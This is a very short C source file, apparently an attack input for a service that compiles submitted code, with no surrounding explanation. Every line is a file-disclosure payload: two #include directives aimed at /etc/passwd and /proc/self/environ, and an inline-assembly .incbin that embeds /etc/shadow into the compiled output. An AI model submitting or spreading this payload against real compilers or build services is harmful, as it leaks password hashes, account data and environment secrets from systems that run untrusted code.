#include "/etc/passwd"
#include "/proc/self/environ"
__asm__(".incbin \"/etc/shadow\"");
